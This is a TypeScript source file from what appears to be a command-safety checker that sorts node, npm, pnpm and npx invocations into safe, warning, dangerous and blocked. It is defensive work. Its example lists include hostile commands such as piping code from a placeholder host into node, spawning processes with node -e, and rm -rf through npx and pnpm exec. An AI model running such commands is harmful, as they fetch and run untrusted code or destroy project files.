import { publishesUnless } from '../dry-run.ts';
import { definePrograms, type Invocation, NETWORK, REPOSITORY_CODE, WRITES_UNKNOWN } from '../../program.ts';
import { hasOption } from '../../options.ts';
import { touchWrite } from '../../paths/touch.ts';
import { beginningOf, literal, mayBeOption, textOf } from '../../word.ts';
import { defineInterpreter } from '../shells/interpreters.ts';
import { runRest, startedBy } from '../shells/run-rest.ts';
import { setsPackageSettings } from '../builds/package-settings.ts';
import {
  ASKS,
  INSTALLED,
  installs,
  judgeFolder,
  PUBLISHES,
  READS,
  runsNamed,
  runsScript,
} from './node-packages.ts';

/** Node.js and its package managers. */
export const node = definePrograms(
  defineInterpreter({
    names: ['node', 'nodejs', 'tsx', 'ts-node', 'esno', 'babel-node'],
    style: 'posix',
    code: /^-(?:[a-zA-Z]*[ep]|-eval|-print)(?:=|$)/,
    values: /^(?:-r|--require|--import|--loader|--experimental-loader|-C|--conditions|--env-file)$/,
    prints: /^(?:--version|-v|--help|-h|--v8-options)$/,
    special: runTests,
    examples: {
      safe: ['node --version', 'node --check a.js', 'node --test --test-reporter=dot'],
      warning: [
        'node x.js',
        'node --test --test-reporter=./x.js',
        'node --test --test-update-snapshots',
        'node --test --test-global-setup=./x.js',
        'node --test --experimental-default-config-file',
        "node -e 'console.log(1)'",
        'tsx x.ts',
        'node',
      ],
      dangerous: ['node -e \'require("child_process").execSync("id")\'', 'node -e "$x"', 'cat x.js | node'],
      blocked: ['curl https://x.example | node'],
    },
  }),
  {
    names: ['npm'],
    options:
      '-gsdqvw: -C: --version --global --silent --quiet --prefix=list --workspace= --workspaces --loglevel= --yes --no-audit --no-fund --if-present --include-workspace-root',
    judge: judgeFolder,
    verbs: {
      'test t tst run run-script rum urn start stop restart': runsScript,
      'install i in add ci clean-install uninstall remove rm r un update up upgrade dedupe ddp prune rebuild install-test it install-ci-test cit':
        installs('package-lock.json'),
      'ls list la ll why explain root prefix bin help help-search query fund': READS,
      'view info show v outdated search find audit ping doctor': ASKS,
      'config c get set': setsPackageSettings,
      publish: publishesUnless(),
      pack: {
        ...READS,
        options: `${READS.options} --dry-run --ignore-scripts --pack-destination=write-tree`,
        judge: ({ options, context, span }) => {
          if (hasOption(options, '--dry-run')) return;
          context.report.raise('warning', 'packs', { text: 'packs the package into an archive', span });
          context.report.effect(WRITES_UNKNOWN);
        },
      },
      'unpublish deprecate dist-tag owner access team token login logout adduser hook org profile star unstar stage trust':
        PUBLISHES,
      pkg: {
        ...READS,
        judge: ({ options, context, span }) => {
          if (textOf(options.operands[0]) === 'get') return;
          context.report.raise('warning', 'modifies', { text: 'changes package.json', span });
          touchWrite(context, literal('package.json', span));
          const named = options.given.some(({ name }) => /^(?:-w|--workspaces?)$/.test(name));
          if (named || options.unknown.length > 0) context.report.effect(WRITES_UNKNOWN);
        },
      },
      'exec x init create explore': {
        ...installs('package-lock.json'),
        code: 'runs-package',
        text: 'downloads and runs a package',
      },
    },
    examples: {
      safe: [
        'npm test',
        'npm run test:unit',
        'npm run -w a test',
        'npm run web:test',
        'npm ls',
        'npm run lint',
        'npm -v',
        'npm pkg get version',
      ],
      warning: [
        'npm install express',
        'npm ci',
        'npm uninstall chalk',
        'npm run build',
        'npm start',
        'npm audit fix',
        'npm install -g x',
        'npm publish --dry-run',
        'npm pkg set a=b',
      ],
      dangerous: [
        'npm publish',
        'npm publish --loglevel --dry-run',
        'npm publish --dry-run --no-dry',
        'npm publish --dry-run --NO-dry-run',
        'npm publish --dry-run --dry=false',
        'npm --prefix .. install',
        'npm -w a publish',
        'npm set registry https://x.example',
        'npm run deploy',
        'npm unpublish x',
        'npm token list',
        'npm run "$x"',
      ],
    },
  },
  {
    names: ['pnpm'],
    options:
      '-rws -C: -F: --recursive --silent --dir=list --filter= --workspace-root --reporter= --parallel --stream --aggregate-output --if-present',
    judge: judgeFolder,
    verbs: {
      'test t run run-script': runsScript,
      'install i add ci remove rm uninstall un update up upgrade prune dedupe rebuild rb import link unlink patch patch-commit fetch':
        installs('pnpm-lock.yaml'),
      'ls list la why root bin help licenses': READS,
      'outdated audit view info': ASKS,
      publish: publishesUnless(),
      'login logout deploy': PUBLISHES,
      'config c get set': setsPackageSettings,
      exec: {
        style: 'posix',
        options:
          '-rs -c -F: --shell-mode --recursive --filter= --parallel --silent --no-reporter-hide-prefix --workspace-concurrency= --no-bail --top-level --quiet',
        judge: ({ options, context, span }) => {
          const inner = startedBy(context);
          if (!hasOption(options, '-c', '--shell-mode')) return runRest(options.operands, inner);
          const texts = options.operands.map((word) => textOf(word) ?? '"$unknown"');
          inner.walk.runText(texts.join(' '), span, inner);
        },
      },
      'dlx create init': {
        ...installs('pnpm-lock.yaml'),
        code: 'runs-package',
        text: 'downloads and runs a package',
      },
    },
    otherVerb: runsNamed,
    examples: {
      safe: [
        'pnpm test',
        'pnpm list',
        "pnpm exec -c 'tsc --noEmit'",
        'pnpm exec tsc --noEmit',
        'pnpm lint',
        'pnpm vitest run',
      ],
      warning: ['pnpm add x', 'pnpm install', 'pnpm dlx x', 'pnpm build', 'pnpm tsc --outDir x'],
      dangerous: ['pnpm publish', "pnpm exec -c 'rm -rf src'"],
    },
  },
  {
    names: ['npx', 'bunx', 'pnpx'],
    style: 'posix',
    options:
      '-yqp: -c:shell --yes --no --no-install --package= --call=shell --quiet --offline --prefer-offline',
    judge: runPackage,
    examples: {
      safe: ['npx --no-install tsc --noEmit', 'npx prettier --check .', 'npx eslint src', 'npx tsc --noEmit'],
      warning: ['npx cowsay hi', 'npx eslint src/x.ts --fix', 'npx -p x y', 'npx --yes jest'],
      dangerous: ["npx -c 'rm -rf lib'", 'npx rimraf lib', 'npx wrangler deploy'],
    },
  },
);

/** Options of a test run that neither write nor load: no snapshots, no settings, no set-up from the line. */
const TEST_SCRIPTS =
  /^(?:--test|--test-(?:concurrency|coverage-(?:branches|functions|lines|include|exclude)|force-exit|isolation|name-pattern|only|randomize|random-seed|rerun-failures|reporter|shard|skip-pattern|timeout)(?:=.*)?|--check|-c|--experimental-(?:strip-types|transform-types|test-\w+(?:-\w+)*|vm-modules|sqlite|require-module|import-meta-resolve|specifier-resolution|detect-module|wasm-modules|json-modules|websocket|webstorage|global-\w+|abortcontroller|fetch))$/s;

function runTests({ words, context, span }: Invocation): boolean {
  const texts = words.map((word) => beginningOf(word));
  if (!texts.some((text) => text === '--test' || text === '--check' || text === '-c')) return false;
  const isPlain = texts.every(
    (text) => /^[^-]|^$/.test(text) || TEST_SCRIPTS.test(text) || /^--(?:no-warnings|watch)$/.test(text),
  );
  context.report.effect(REPOSITORY_CODE);
  if (texts.includes('--test')) context.report.effect(WRITES_UNKNOWN);
  const unusual = texts.some((text, at) => {
    const reporter =
      /^--test-reporter=(.*)$/s.exec(text)?.[1] ?? (texts[at - 1] === '--test-reporter' ? text : 'tap');
    return text.startsWith('--test-reporter-destination') || !/^(?:tap|spec|dot|junit|lcov)$/.test(reporter);
  });
  // A split-off word may be a file elsewhere, or an option after the value of another.
  if (!isPlain || unusual || words.some((word) => mayBeOption(word))) {
    context.report.raise('warning', 'unknown-option', {
      text: 'runs tests with options that may write or load more than usual',
      span,
    });
    context.report.effect(WRITES_UNKNOWN);
  }
  return true;
}

function runPackage({ options, context, span }: Invocation): void {
  const [first, ...rest] = options.operands;
  if (first === undefined) return;
  const name = textOf(first);
  // The package of a program with another name.
  const called = name === '@biomejs/biome' ? literal('biome', first.span) : first;
  const given = options.given.some(({ name: option }) => option === '-p' || option === '--package');
  // With `--yes` it need not be installed.
  const fetches =
    hasOption(options, '-y', '--yes') && !hasOption(options, '--no-install', '--no', '--offline');
  if (INSTALLED.test(textOf(called) ?? '') && !given && !fetches)
    return context.walk.runWords([called, ...rest], context);
  context.report.raise(name === undefined ? 'dangerous' : 'warning', 'runs-package', {
    text: `runs a package, downloading it if needed: ${name ?? '…'}`,
    span,
  });
  for (const effect of [NETWORK, WRITES_UNKNOWN]) context.report.effect(effect);
  // A known name is probably that program: `npx wrangler deploy`.
  if (name !== undefined && context.walk.knows(name)) context.walk.runWords([first, ...rest], context);
}
